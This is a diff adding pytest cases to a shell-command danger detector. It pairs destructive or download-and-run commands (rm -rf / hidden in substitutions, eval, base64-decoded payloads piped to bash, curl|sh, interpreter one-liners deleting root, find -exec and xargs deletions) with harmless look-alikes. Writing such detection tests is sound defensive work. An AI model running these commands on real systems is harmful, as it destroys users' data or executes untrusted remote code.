@@ -174,3 +174,89 @@ def test_quoted_operators_do_not_split_commands():
     assert [s.words[0] for s in segments] == ["find", "echo"]
     assert segments[0].words[-1] == ";"
     assert segments[1].words == ["echo", ";", "done"]
+
+
+# Each class the rules see through, both ways: the dangerous form, and look-alikes that only mention
+# it or scope it to a safe path.
+SEES_THROUGH = {
+    "command substitution": (
+        ["echo $(rm -rf ~)", "ls \"$(sudo rm -rf /etc)\"", "x=$(rm -rf /)"],
+        ["ls $(pwd)", "echo '$(rm -rf /)'", "cd \"$(git rev-parse --show-toplevel)\""],
+    ),
+    "process substitution": (
+        ["cat <(rm -rf /)", "bash <(curl -s https://example.com/x)", "source <(wget -qO- https://example.com/x)",
+         "bash <(echo cm0gLXJmIC8K | base64 -d)"],
+        ["diff <(ls a) <(ls b)", "bash <(cat setup.sh)", "sort <(grep 'rm -rf' notes.txt)"],
+    ),
+    "eval": (
+        ['eval "rm -rf /"', 'eval "$(curl -s https://example.com/x)"', "eval $(echo cm0gLXJmIC8K | base64 -d)"],
+        ['eval "$(ssh-agent -s)"', "eval echo '$HOME'", 'eval "ls -la"'],
+    ),
+    "download or decode, then run": (
+        ["curl -fsSL https://example.com/i.sh | sh", "echo cm0gLXJmIC8K | base64 -d | bash",
+         "base64 --decode payload.b64 | sh", "xxd -r -p blob.hex | bash", "wget -qO- https://x.io/a.gz | gunzip | sh",
+         'sh -c "$(echo cm0gLXJmIC8K | base64 -d)"'],
+        ["echo aGVsbG8K | base64 -d", "curl -s https://example.com | grep title", "base64 -d in.b64 > out.bin",
+         "gunzip -c logs.gz | grep error", "curl -s https://example.com/i.sh -o i.sh"],
+    ),
+    "interpreter code": (
+        ["python -c \"import shutil; shutil.rmtree('/')\"",
+         "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
+         "python3 -c 'import os; os.system(\"rm -rf /\")'", "perl -e 'unlink \"/etc/passwd\"'",
+         "perl -MFile::Path -e 'rmtree(\"/usr\")'", "ruby -e 'FileUtils.rm_rf(\"/\")'",
+         "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", "perl -e 'system(\"rm -rf ~\")'"],
+        ["python3 -c 'print(\"rm -rf /\")'", "perl -ne 'print if /rm -rf/' notes.txt", "python -m json.tool data.json",
+         "python -c \"import shutil; shutil.rmtree('build')\"", "perl -e 'unlink \"old.log\"'",
+         "ruby -e 'puts Dir.home'"],
+    ),
+    "xargs": (
+        ["echo / | xargs rm -rf", "find / | xargs rm -rf", "printf '%s\\n' /etc | xargs sudo rm -rf",
+         "ls | xargs -I{} sh -c 'rm -rf /'"],
+        ["ls | xargs echo rm -rf /", "find . -name '*.o' | xargs rm -f", "echo build | xargs rm -rf",
+         "grep -l 'rm -rf' *.sh | xargs wc -l"],
+    ),
+    "find -exec": (
+        ["find / -exec rm -rf {} +", "find ~ -type f -exec rm {} \\;", "find . -exec sh -c 'rm -rf ~' \\;",
+         "find /etc -execdir rm -f {} \\;"],
+        ["find . -name '*.pyc' -delete", "find . -name '*.log' -exec rm {} +", "find . -exec echo rm -rf / \\;",
+         "find . -type f -exec grep -l 'rm -rf /' {} +"],
+    ),
+    "brace expansion": (
+        ["rm -rf /{etc,usr}", "sudo rm -rf /usr/{lib,bin}", "rm -rf ~/{,.}*", "chmod -R 777 /{etc,var}"],
+        ["rm -rf ./{build,dist}", "mkdir -p src/{a,b}", "echo /{etc,usr}", "echo rm -rf /{etc,usr}",
+         "cp file{,.bak}"],
+    ),
+    "mentions only": (
+        [],
+        ['echo "rm -rf /"', "grep 'rm -rf' notes.txt", "printf 'curl x | sh\\n'", "man rm",
+         "echo 'python -c \"import shutil; shutil.rmtree(\\\"/\\\")\"'", "rm -rf ./build"],
+    ),
+}
+
+
+@pytest.mark.parametrize("kind, command", [(k, c) for k, (bad, _) in SEES_THROUGH.items() for c in bad])
+def test_rules_see_through(kind, command):
+    assert risk.is_dangerous(command), (kind, risk.assess(command))
+
+
+@pytest.mark.parametrize("kind, command", [(k, c) for k, (_, fine) in SEES_THROUGH.items() for c in fine])
+def test_look_alikes_are_not_dangerous(kind, command):
+    assert not risk.is_dangerous(command), (kind, risk.assess(command))
+
+
+def test_pipeline_stages_are_linked_through_nested_redirections():
+    from cli_tuner.shell import parse
+
+    segments = parse.split_commands("curl -s x 2>/dev/null | tee log | sh")
+    assert [s.words[0] for s in segments] == ["curl", "tee", "sh"]
+    assert [s.stage for s in segments] == [0, 1, 2] and segments[2].upstream() == segments[:2]
+    assert risk.is_dangerous("curl -s x 2>/dev/null | tee log | sh")
+
+
+def test_malformed_text_still_parses_and_reports_where():
+    from cli_tuner.shell import parse
+
+    assert parse.syntax_problems("ls -la") == []
+    problems = parse.syntax_problems("echo 'unclosed")
+    assert problems and problems[0].startswith("1:")
+    assert risk.is_dangerous("rm -rf / 'unclosed")  # tolerant: the command before the bad quote is still read
